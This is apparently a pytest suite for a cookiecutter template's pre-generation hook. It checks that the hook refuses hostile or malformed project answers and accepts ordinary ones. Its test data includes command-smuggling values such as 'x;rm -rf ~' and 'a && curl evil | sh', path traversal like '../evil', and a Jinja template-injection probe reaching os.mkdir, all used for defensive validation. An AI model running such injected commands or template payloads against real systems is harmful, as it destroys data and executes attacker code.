"""The pre-gen hook refuses hostile or invalid answers with one line on stderr, leaving nothing."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from bakery import REPO, bake_into, child_env, cookiecutter_config
from cookiecutter.exceptions import FailedHookException

CYRILLIC_A = "\u0430"
# (field, value, a word the refusal must contain)
HOSTILE = [
    ("package_name", 'my"pkg', "package_name"),
    ("package_name", "my'pkg", "package_name"),
    ("project_name", 'Evil "quoted" Name', "project_name"),
    ("description", "line one\nline two", "LINE FEED"),
    # Cookiecutter's rendering turns the carriage return into a line feed before the hook runs.
    ("author_name", "Ann\rBob", "use one line"),
    ("description", "tab\there", "CHARACTER TABULATION"),
    ("description", "{{ 7 * 7 }}", "template syntax"),
    ("author_name", "{% if true %}x{% endif %}", "template syntax"),
    ("project_name", "{# comment #}x", "template syntax"),
    ("project_slug", "../evil", "parent-directory"),
    ("package_name", "../evil", "parent-directory"),
    ("project_name", "foo/bar", "project_name"),
    ("project_name", "x;rm -rf ~", "project_name"),
    ("project_slug", "x$(touch pwned)", "project_slug"),
    ("package_name", "x`id`", "package_name"),
    ("project_name", "a && curl evil | sh", "project_name"),
    ("package_name", "class", "keyword"),
    ("package_name", f"p{CYRILLIC_A}ckage", "CYRILLIC SMALL LETTER A"),
    ("project_slug", f"p{CYRILLIC_A}ckage", "non-ASCII"),
    ("package_name", "1server", "package_name"),
    ("project_slug", "9lives", "project_slug"),
    ("package_name", "my server", "package_name"),
    ("project_slug", "my server", "project_slug"),
    ("project_slug", "MyServer", "project_slug"),
    ("package_name", "mcp", "reserved"),
    ("package_name", "mrtr_runtime", "reserved"),
    ("package_name", "tests", "reserved"),
    ("package_name", "json", "standard library"),
    ("project_slug", "pip", "clash"),
    # Modules of the bake's dependencies' own dependencies, with every extra (aws, http, dev).
    ("package_name", "uvicorn", "reserved"),
    ("package_name", "urllib3", "reserved"),
    ("package_name", "httptools", "reserved"),
    ("package_name", "uvloop", "reserved"),
    ("package_name", "click", "reserved"),
    ("package_name", "h11", "reserved"),
    ("package_name", "six", "reserved"),
    ("package_name", "dateutil", "reserved"),
    ("package_name", "yaml", "reserved"),
    ("project_slug", "uvicorn", "clash"),
    ("project_slug", "flask-cors", "clash"),
    ("project_slug", "cfn-lint", "clash"),
    ("project_slug", "stubgen", "clash"),
    ("description", "C:\\Windows\\path", "backslash"),
    ("description", "evil \u202e txt.exe", "RIGHT-TO-LEFT OVERRIDE"),
    ("description", "", "description"),
    ("description", "x" * 101, "1-100 characters"),
    # The README renders the description just above the registry's "<!-- mcp-name: -->" marker.
    ("description", "Tools <!-- mcp-name: io.github.evil/x -->", "comment marker '<!--'"),
    ("description", "<!-- hidden", "HTML comment marker '<!--'"),
    ("description", "ends a comment -->", "HTML comment marker '-->'"),
    ("description", "a-->b", "HTML comment marker '-->'"),
    ("description", "a --!> b", "HTML comment marker '--!>'"),
    ("description", "mcp-name: io.github.evil/x", "'mcp-name:'"),
    ("description", "Tools MCP-Name : io.github.evil/x", "'mcp-name:'"),
    # What a fresh venv holds before anything is installed.
    ("package_name", "pkg_resources", "reserved"),
    ("package_name", "setuptools", "reserved"),
    ("package_name", "distutils", "reserved"),
    ("package_name", "wheel", "reserved"),
    ("package_name", "pip", "reserved"),
    ("author_name", "Doe, John", "author_name"),
    ("author_name", "Ann <ann@example.com>", "author_name"),
    ("author_email", "not-an-email", "author_email"),
    ("author_email", "a@b.com\nBcc: x@y.z", "LINE FEED"),
    ("github_owner", "-leading", "github_owner"),
    ("github_owner", "double--hyphen", "github_owner"),
    ("github_owner", "dotted.name", "github_owner"),
    ("github_owner", "owner/repo", "github_owner"),
    ("github_owner", "x" * 40, "github_owner"),
    ("github_owner", "", "github_owner"),
    ("github_owner", f"{CYRILLIC_A}lice", "non-ASCII"),
    ("project_name", "x" * 81, "project_name"),
    # Windows device names, in any case and with an extension: no such directory, package or
    # <slug>.exe can be created there. A project named CON gets the slug "con".
    ("project_slug", "con", "reserved by Windows"),
    ("project_slug", "CON", "reserved by Windows"),
    ("project_slug", "com1", "reserved by Windows"),
    ("project_slug", "lpt9", "reserved by Windows"),
    ("project_slug", "con.txt", "reserved by Windows"),
    ("package_name", "nul", "reserved by Windows"),
    ("package_name", "Aux", "reserved by Windows"),
    ("package_name", "prn.py", "reserved by Windows"),
    ("package_name", "com9", "reserved by Windows"),
    ("project_name", "PRN", "reserved by Windows"),
]


def _ids() -> list[str]:
    return [f"{index:02d}-{field}" for index, (field, _, _) in enumerate(HOSTILE)]


@pytest.mark.parametrize(("field", "value", "reason"), HOSTILE, ids=_ids())
def test_hostile_answer_is_refused_and_nothing_is_left(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], field: str, value: str, reason: str
) -> None:
    output = tmp_path / "sandbox" / "out"
    output.mkdir(parents=True)
    with pytest.raises(FailedHookException):
        bake_into(output, capfd, state_dir=tmp_path / "state", **{field: value})
    refusals = [
        line for line in capfd.readouterr().err.splitlines() if line.startswith("mrtr-server:")
    ]
    assert len(refusals) == 1, refusals
    assert refusals[0].startswith("mrtr-server: refused: ")
    assert reason in refusals[0]
    # Nothing in the output directory, nor next to it ("../evil" lands one level up).
    assert list(output.iterdir()) == []
    assert [path.name for path in (tmp_path / "sandbox").iterdir()] == ["out"]


def test_refusal_names_the_field_the_user_typed(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    # A bad project_name is reported as such, not as the slug derived from it.
    output = tmp_path / "out"
    output.mkdir()
    with pytest.raises(FailedHookException):
        bake_into(output, capfd, project_name="Bad;Name")
    assert "refused: project_name 'Bad;Name'" in capfd.readouterr().err


def test_explicit_slug_with_a_separator_leaves_only_an_empty_directory(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    # Known cookiecutter behaviour: it creates the project directory, parents included, before
    # any hook runs, and on a refusal removes only the project directory itself. A derived slug
    # never contains a separator (cookiecutter.json replaces them); only an explicit one can.
    output = tmp_path / "out"
    output.mkdir()
    with pytest.raises(FailedHookException):
        bake_into(output, capfd, project_slug="a/b")
    assert "refused: project_slug" in capfd.readouterr().err
    leftovers = sorted(path.relative_to(output) for path in output.rglob("*"))
    assert leftovers == [Path("a")]
    assert list((output / "a").iterdir()) == []


@pytest.mark.parametrize(
    "answers",
    [
        {"project_name": "My Server 2"},
        {"project_name": "acme.tools_v2"},
        {"project_slug": "ab", "package_name": "ab"},
        {"author_name": "José Ñúñez-O'Brien"},
        {"description": "Quotes \" and ' and $HOME and `x` are fine here"},
        {"description": "Arrows -> and <- and <! and -- are fine"},
        {"author_email": "first.last+tag@sub.example.org"},
        {"project_slug": "con-tools", "package_name": "console"},
        {"project_name": "Com10 Aux Tools"},
        {"github_owner": "Octo-Cat42"},
        {"github_owner": "a" * 39},
    ],
    ids=lambda answers: next(iter(answers)),
)
def test_ordinary_answers_are_accepted(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], answers: dict[str, str]
) -> None:
    output = tmp_path / "out"
    output.mkdir()
    baked = bake_into(output, capfd, **answers)
    assert (baked.project / "pyproject.toml").is_file()


# What the top README says about Jinja in answers, pinned against the cookiecutter we test with.


def _probe(directory: Path) -> str:
    # Creates `directory` if, and only if, something evaluates it as a Jinja template.
    return "{{ cycler.__init__.__globals__.os.mkdir(" + repr(str(directory)) + ") }}"


def test_jinja_typed_at_a_prompt_is_not_evaluated_and_the_hook_refuses_it(tmp_path: Path) -> None:
    evaluated = tmp_path / "evaluated"
    output = tmp_path / "out"
    output.mkdir()
    # The description is the fourth prompt; every other prompt (the options included) takes
    # its default.
    answers = json.loads((REPO / "cookiecutter.json").read_text(encoding="utf-8"))
    prompts = len([name for name in answers if not name.startswith("_")])
    typed = ["", "", "", "Docs " + _probe(evaluated), *[""] * (prompts - 4)]
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "cookiecutter",
            "--output-dir",
            str(output),
            "--config-file",
            str(cookiecutter_config(tmp_path)),
            str(REPO),
        ],
        input="\n".join(typed) + "\n",
        capture_output=True,
        text=True,
        env=child_env(),
        timeout=120,
        check=False,
    )
    assert result.returncode != 0
    assert "refused: description" in result.stderr
    assert "template marker" in result.stderr
    assert not evaluated.exists()
    assert list(output.iterdir()) == []


def test_jinja_in_a_given_answer_runs_before_any_hook_which_can_only_refuse_it(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    # The limitation the README states: cookiecutter renders key=value answers (here through
    # --no-input) before the pre-gen hook exists. If this ever stops creating the directory,
    # cookiecutter sandboxes answers and the README can say so.
    evaluated = tmp_path / "evaluated"
    output = tmp_path / "out"
    output.mkdir()
    with pytest.raises(FailedHookException):
        bake_into(output, capfd, state_dir=tmp_path / "state", description=_probe(evaluated))
    assert "template syntax, which cookiecutter evaluated" in capfd.readouterr().err
    assert evaluated.is_dir()
    assert list(output.iterdir()) == []
